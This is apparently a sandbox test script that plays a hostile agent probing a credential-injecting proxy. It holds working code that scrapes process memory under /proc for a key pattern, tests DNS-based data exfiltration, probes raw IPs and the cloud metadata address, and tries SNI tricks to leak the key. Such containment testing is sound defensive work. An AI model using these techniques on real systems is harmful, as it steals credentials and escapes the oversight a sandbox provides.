#!/usr/bin/env python3
"""What the demo's agent tries with Python. Each attempt prints a row: ROW, id, what was tried, what was seen (by tabs).

It is on nobody's side: it knows where the real key would be of use and looks for it. It can recognise it by its prefix, as any
thief would; the prefix is written so that this file doesn't match itself.
"""

import os
import re
import socket
import struct
import sys

from wire import request

# It looks through the memory of all processes it can reach, which is for a sandbox only: the agent's manifest sets DEMO_PORT.
if "DEMO_PORT" not in os.environ:
    sys.exit("this is run inside the sandbox, by Demo/demo.sh")
PORT = int(os.environ["DEMO_PORT"])
REAL = re.compile(rb"sk_demo_[l]ive_[0-9a-f]{32}")
API = "api.demo.test"


def row(identifier, tried, seen):
    print("ROW", identifier, tried, str(seen).replace("\t", " ").replace("\n", " "), sep="\t", flush=True)


def attempt(identifier, tried, action):
    """Runs `action`; what it returns, or the error that stopped it, is what was seen."""
    try:
        row(identifier, tried, action())
    except Exception as error:  # noqa: BLE001 - the row shows it, and the table then differs
        row(identifier, tried, f"{type(error).__name__}: {error}")


def bearer(value=None):
    return {"Authorization": f"Bearer {value or os.environ['DEMO_API_KEY']}"}


def orders():
    return request(API, PORT, "/orders", headers=bearer()).summary()


def memory_holds_no_key():
    """Looks through the memory and /proc files of every process that shows itself."""
    found, looked = [], 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for data in process_bytes(f"/proc/{pid}"):
            looked += len(data)
            if REAL.search(data):
                found.append(pid)
    return f"real key in process {','.join(found)}" if found else ("none" if looked else "could look nowhere")


def process_bytes(folder):
    for name in ("environ", "cmdline"):
        yield read_or_nothing(f"{folder}/{name}")
    for line in read_or_nothing(f"{folder}/maps").decode("utf-8", "replace").splitlines():
        span, rights = line.split()[:2]
        start, end = (int(number, 16) for number in span.split("-"))
        if rights.startswith("r") and end - start < 1 << 28 and start < 1 << 62:
            yield read_or_nothing(f"{folder}/mem", start, end - start)


def read_or_nothing(path, offset=0, length=-1):
    """Bytes, or none where reading is refused: another process's memory, a region without pages."""
    try:
        with open(path, "rb", buffering=0) as file:
            if offset:
                file.seek(offset)
            return file.read(length) or b""
    except (OSError, ValueError, OverflowError):
        return b""


def denied_host():
    return request("denied.demo.test", PORT, "/hello").summary()


def placeholder_elsewhere():
    return request("other.demo.test", PORT, "/echo", headers=bearer()).summary()


def key_of_ones_own():
    return request(API, PORT, "/orders", headers=bearer("attackers-own-key-0123456789")).summary()


def address_through_proxy():
    return request("127.77.0.12", PORT, "/hello", sni="denied.demo.test").summary()


def address_directly():
    reached = []
    for address in (("127.77.0.12", PORT), ("127.77.0.53", 1053), ("192.0.2.1", 443), ("169.254.169.254", 80)):
        try:
            socket.create_connection(address, 3).close()
            reached.append(address[0])
        except OSError:
            continue  # no way out, which is what is hoped for
    return f"reached {' '.join(reached)}" if reached else "no route"


def carry_out_by_dns():
    """Asks for names that hold a message. Answers may be loopback or nothing, and nobody outside may have seen the name."""
    answers = set()
    for kind in (1, 16):  # A, TXT
        answers.add(ask(("127.0.0.1", 53), "leak-0123456789.demo.test", kind))
        answers.add(ask(("127.77.0.53", 1053), "leak-0123456789.demo.test", kind))
    outside = answers - {"127.0.0.1", "nothing"}
    return f"answered {' '.join(sorted(outside))}" if outside else "loopback or nothing"


def ask(server, name, kind):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    query = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as question:
        question.settimeout(2)
        try:
            question.sendto(query, server)
            answer = question.recv(512)
        except OSError:
            return "nothing"
    if struct.unpack("!H", answer[6:8])[0] == 0:
        return "nothing"
    return socket.inet_ntoa(answer[-4:]) if kind == 1 else repr(answer[len(query) :])


def sni_against_host():
    return request("other.demo.test", PORT, "/hello", authority=API, sni=API).summary()


def echo():
    return shown(request(API, PORT, "/echo", method="POST", headers=bearer(), body=b"what do you see?"))


def events():
    return shown(request(API, PORT, "/events", headers=bearer()))


def shown(answer):
    """Only the placeholder, in a header and in the body: what the API received was the real key (its own log says so)."""
    print(answer.text, flush=True)
    everything = (answer.text + "\n" + "\n".join(answer.headers.values())).encode()
    if REAL.search(everything):
        return "the real key"
    if answer.status != 200:
        return answer.summary()
    return "only the placeholder" if os.environ["DEMO_API_KEY"].encode() in everything else "neither"


def private_name():
    return request("private.demo.test", PORT, "/hello").summary()


def first_run():
    attempt("a", f"GET https://{API}/orders with the placeholder", orders)
    attempt("b3", "search /proc and the memory of every process", memory_holds_no_key)
    attempt("e1", "GET https://denied.demo.test (no rule allows it)", denied_host)
    attempt("e2", "send the placeholder to other.demo.test", placeholder_elsewhere)
    attempt("e3", "send a key of one's own to the API", key_of_ones_own)
    attempt("e4", "CONNECT to a raw IP address", address_through_proxy)
    attempt("e5", "TCP to IP addresses without the proxy", address_directly)
    attempt("e6", "carry data out by DNS", carry_out_by_dns)
    attempt("e7", "SNI api.demo.test, Host other.demo.test", sni_against_host)
    attempt("g1", "let the API echo the whole request", echo)
    attempt("g2", "let the API echo it as server-sent events", events)
    attempt("h", "GET https://private.demo.test (allowed, but 127.0.0.1)", private_name)


if __name__ == "__main__":
    first_run()
    sys.exit(0)
